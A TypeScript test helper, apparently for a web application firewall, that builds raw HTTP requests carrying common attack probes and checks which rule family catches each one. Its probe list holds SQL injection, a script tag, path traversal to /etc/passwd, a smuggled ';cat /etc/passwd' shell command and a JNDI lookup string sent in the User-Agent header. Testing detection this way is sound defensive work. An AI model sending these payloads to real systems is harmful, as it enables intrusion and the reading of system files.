/** The attacks that newcomers try first, in every place where they can be sent. */
import { rawRequest } from '../../proxy/helpers/raw-client.ts';

type Probe = {
  readonly name: string;
  readonly argument: string;
  readonly value: string;
  /** The family of rules that must have found it. */
  readonly rules: RegExp;
};

export type ProbeRequest = {
  readonly name: string;
  readonly text: string;
  readonly method: string;
  readonly rules: RegExp;
};

const ARGUMENT_PROBES: readonly Probe[] = [
  { name: 'SQL injection', argument: 'id', value: "1' OR '1'='1", rules: /^942/ },
  { name: 'script', argument: 'q', value: '<script>alert(1)</script>', rules: /^941/ },
  { name: 'path traversal', argument: 'f', value: '../../../../etc/passwd', rules: /^930/ },
  { name: 'shell command', argument: 'c', value: ';cat /etc/passwd', rules: /^932/ },
];
const JNDI = '\x24{jndi:ldap://x/a}';
const BROWSER = ['User-Agent: Mozilla/5.0', 'Accept: */*'];
const BOUNDARY = 'part7f3a9c';

/** Every probe as query (GET and POST), form, JSON and multipart; the header with GET and POST. */
export function probeRequests(host: string): readonly ProbeRequest[] {
  return [
    ...ARGUMENT_PROBES.flatMap((probe) => argumentRequests(probe, host)),
    ...['GET', 'POST'].map((method) => ({
      name: `JNDI in User-Agent, ${method}`,
      method,
      rules: /^944/,
      text: rawRequest('/', [`User-Agent: ${JNDI}`, 'Accept: */*', ...formType(method)], {
        method,
        host,
        body: method === 'POST' ? 'a=b' : '',
      }),
    })),
  ];
}

function formType(method: string): readonly string[] {
  return method === 'POST' ? ['Content-Type: application/x-www-form-urlencoded'] : [];
}

function argumentRequests(
  { name, argument, value, rules }: Probe,
  host: string,
): readonly ProbeRequest[] {
  const pair = `${argument}=${encodeURIComponent(value)}`;
  const multipart = [
    `--${BOUNDARY}`,
    `Content-Disposition: form-data; name="${argument}"`,
    '',
    value,
    `--${BOUNDARY}--`,
    '',
  ].join('\r\n');
  const post = (how: string, target: string, type: string, body: string): ProbeRequest => ({
    name: `${name}, ${how}`,
    method: 'POST',
    rules,
    text: rawRequest(target, [...BROWSER, `Content-Type: ${type}`], { method: 'POST', host, body }),
  });
  const form = 'application/x-www-form-urlencoded';
  return [
    {
      name: `${name}, GET`,
      method: 'GET',
      rules,
      text: rawRequest(`/?${pair}`, BROWSER, { host }),
    },
    post('query of a POST', `/?${pair}`, form, 'a=b'),
    post('form', '/', form, pair),
    post('JSON', '/', 'application/json', JSON.stringify({ [argument]: value })),
    post('multipart', '/', `multipart/form-data; boundary=${BOUNDARY}`, multipart),
  ];
}
